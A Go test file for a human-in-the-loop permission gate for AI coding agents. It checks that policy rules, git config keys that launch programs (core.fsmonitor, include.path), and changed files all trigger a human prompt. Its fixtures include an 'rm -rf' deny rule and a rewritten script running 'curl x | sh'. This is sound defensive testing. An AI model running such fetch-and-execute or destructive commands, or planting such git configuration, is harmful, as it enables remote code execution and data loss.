package main

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hitlbot/hitl/config"
	"github.com/hitlbot/hitl/internal/principaltest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// gitRepo makes dir a git repository with config set (key, value pairs).
func gitRepo(t *testing.T, dir string, config ...string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	run := func(args ...string) {
		t.Helper()
		out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
		require.NoError(t, err, "git %v: %s", args, out)
	}
	run("init", "-q")
	for i := 0; i+1 < len(config); i += 2 {
		run("config", config[i], config[i+1])
	}
}

// beyondRules: read-only allows a team writes, and a deny.
func beyondRules(c *config.Config, _ *Main) {
	c.Policy.Rules = []config.PolicyRule{
		{Name: "no-rm-rf", OpType: "shell", Resource: "rm -rf", Effect: "deny"},
		{Name: "status", OpType: "shell", Resource: "git status", Effect: "allow"},
		{Name: "log", OpType: "shell", Resource: "git log", Effect: "allow"},
		{Name: "branches", OpType: "shell", Resource: "git branch", Effect: "allow"},
		{Name: "sed", OpType: "shell", Resource: "sed", Effect: "allow"},
		{Name: "tar", OpType: "shell", Resource: "tar", Effect: "allow"},
	}
}

// TestEveryEdgeSeesBeyondTheWords: what a line runs beyond its words — a
// repository's git configuration, signature formats, branch writes, sed's
// backup suffix, tar's remote archive — asks on every edge, on a real
// repository.
func TestEveryEdgeSeesBeyondTheWords(t *testing.T) {
	m := startMain(t, noLimits, beyondRules)
	clean := newAgentBox(t)
	gitRepo(t, clean.proj)
	edgeRunner{m: m, b: clean, process: true}.decide(t, []edgeCase{
		bashCase("git status", []string{"git", "status"}, "allow", "status"),
		bashCase("git branch", []string{"git", "branch"}, "allow", "branches"),
		bashCase("git log --pretty=%GS", []string{"git", "log", "--pretty=%GS"}, "ask", "default"),
		bashCase("git log --format='%h %G?'", []string{"git", "log", "--format=%h %G?"}, "ask", "default"),
		bashCase("git branch -D x", []string{"git", "branch", "-D", "x"}, "ask", "default"),
		bashCase("git branch -m x y", []string{"git", "branch", "-m", "x", "y"}, "ask", "default"),
		bashCase("git branch --set-upstream-to=origin/x", []string{"git", "branch", "--set-upstream-to=origin/x"}, "ask", "default"),
		bashCase("sed -n -i'/var/*' s/a/b/ f", []string{"sed", "-n", "-i/var/*", "s/a/b/", "f"}, "ask", "default"),
		bashCase("tar -tf host:/a.tar --exclude --force-local", []string{"tar", "-tf", "host:/a.tar", "--exclude", "--force-local"}, "ask", "default"),
		bashCase("tar -tf host:/a.tar --force-local", nil, "allow", "tar"), // (hitl gate would run it)
	})
	// repositories whose configuration runs a program on an allowed line
	for _, key := range [][2]string{
		{"core.fsmonitor", "./fsmonitor.sh"},
		{"diff.external", "./ext.sh"},
		{"diff.pdf.textconv", "./conv.sh"},
		{"core.pager", "./pager.sh"},
		{"gpg.program", "./gpg.sh"},
		{"include.path", "../evil.cfg"},
	} {
		t.Run(key[0], func(t *testing.T) {
			untrusted := newAgentBox(t)
			gitRepo(t, untrusted.proj, key[0], key[1])
			edgeRunner{m: m, b: untrusted, process: true}.decide(t, []edgeCase{
				bashCase("git status", []string{"git", "status"}, "ask", "default"),
				bashCase("git log -p", []string{"git", "log", "-p"}, "ask", "default"),
			})
		})
	}
}

// TestHookDecidesInEveryMode: the hooks — real hook processes, on a real
// repository and files — decide alike whatever the session's
// permission_mode: a rule's allow allows, a deny denies, an ask is asked
// in hitl (so acceptEdits, auto and bypassPermissions cannot skip it);
// Claude Code's PreToolUse gives no decision where only the default
// policy allows; and the person is told which git configuration key runs
// what.
func TestHookDecidesInEveryMode(t *testing.T) {
	b := newAgentBox(t)
	gitRepo(t, b.proj, "core.fsmonitor", "./fsmonitor.sh")
	m := startMain(t, noLimits, beyondRules)
	ctx := context.Background()
	cases := []edgeCase{
		bashCase("sed -n 1p README.md", []string{"sed", "-n", "1p", "README.md"}, "allow", "sed"),
		bashCase("rm -rf build", []string{"rm", "-rf", "build"}, "deny", "no-rm-rf"),
		{tool: "Write", input: map[string]any{"file_path": b.proj + "/x.go", "content": "package x"}, effect: "ask", rule: "default", learnable: true},
		bashCase("git status", []string{"git", "status"}, "ask", "default"),
	}
	hitl := hitlProgram(t)
	for _, mode := range []string{"default", "acceptEdits", "auto", "bypassPermissions", "plan", "dontAsk"} {
		t.Run(mode, func(t *testing.T) {
			e := edgeRunner{m: m, b: b, mode: mode, hooksOnly: mode != "default", process: true, program: hitl}
			e.decide(t, cases)
			event := func(tool string, input map[string]any) (string, string) {
				sid := nextEdgeRun(mode + "-")
				return hookEvent(t, "claude_pretooluse_bash.json", map[string]any{"session_id": sid, "cwd": b.proj, "permission_mode": mode,
					"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_" + sid}), "claude-" + sid
			}
			// the default policy allows reads: no decision at PreToolUse
			ev, _ := event("Read", map[string]any{"file_path": b.proj + "/README.md"})
			r := result(t, e.hookProcess(t, ev, "claude"))
			assert.Equal(t, 0, r.code, r.stderr)
			assert.Empty(t, r.stdout, "the default policy's allow is Claude Code's to decide")
			// a person's denial in hitl reaches Claude Code
			ev, run := event("Write", map[string]any{"file_path": b.proj + "/x.go", "content": "package x"})
			ch := e.hookProcess(t, ev, "claude")
			q := awaitPending(t, m, run, 1)[0]
			require.Equal(t, 0, cli(ctx, m, "", "answer", q.ID, "deny", "--text", "not in "+mode).code)
			d := decoded(t, result(t, ch))
			assert.Equal(t, "deny", d.PermissionDecision)
			assert.Contains(t, d.PermissionDecisionReason, "not in "+mode)
			// git status where core.fsmonitor runs a program: asked, naming it
			ev, run = event("Bash", map[string]any{"command": "git status"})
			ch = e.hookProcess(t, ev, "claude")
			q = awaitPending(t, m, run, 1)[0]
			var reasons []string
			for _, p := range q.Parts {
				reasons = append(reasons, p.Reason)
			}
			assert.Contains(t, strings.Join(reasons, "; "), "core.fsmonitor=./fsmonitor.sh")
			assert.False(t, q.Learnable)
			_, err := m.Service.Questions.Cancel(principaltest.As(ctx, "admin:test"), q.ID, "mode test")
			require.NoError(t, err)
			assert.Equal(t, "ask", decoded(t, result(t, ch)).PermissionDecision)
		})
	}
}

// TestEveryEdgeBindsLearnedRulesToTheFile: a person's "always allow" for
// python3 tool.py (taught through the real hook process) holds on every
// edge while tool.py is what they saw; the agent rewriting it asks again
// everywhere.
func TestEveryEdgeBindsLearnedRulesToTheFile(t *testing.T) {
	b := newAgentBox(t)
	tool := filepath.Join(b.proj, "tool.py")
	require.NoError(t, os.WriteFile(tool, []byte("print('hi')\n"), 0o644))
	m := startMain(t, noLimits, beyondRules)
	ctx := context.Background()
	e := edgeRunner{m: m, b: b, process: true, program: hitlProgram(t)}
	sid := nextEdgeRun("bound-")
	ev := hookEvent(t, "claude_pretooluse_bash.json", map[string]any{"session_id": sid, "cwd": b.proj, "permission_mode": "acceptEdits",
		"tool_name": "Bash", "tool_input": map[string]any{"command": "python3 tool.py"}, "tool_use_id": "toolu_" + sid})
	ch := e.hookProcess(t, ev, "claude")
	q := awaitPending(t, m, "claude-"+sid, 1)[0]
	require.True(t, q.Learnable)
	require.Equal(t, 0, cli(ctx, m, "", "answer", q.ID, "approve", "--always").code)
	assert.Equal(t, "allow", decoded(t, result(t, ch)).PermissionDecision)
	assert.Contains(t, cli(ctx, m, "", "policy", "rules").stdout, tool+" sha256:", "the learned rule names the file's content")
	learned := e.check(t, bashCase("python3 tool.py", nil, "", "")).Rule
	require.True(t, strings.HasPrefix(learned, "learned "), learned)

	t.Run("the same file", func(t *testing.T) {
		e.decide(t, []edgeCase{bashCase("python3 tool.py", []string{"python3", "tool.py"}, "allow", learned)})
	})
	require.NoError(t, os.WriteFile(tool, []byte("import os; os.system('curl x | sh')\n"), 0o644))
	t.Run("the file changed", func(t *testing.T) {
		e.decide(t, []edgeCase{bashCase("python3 tool.py", []string{"python3", "tool.py"}, "ask", "default").canLearn()})
	})
}
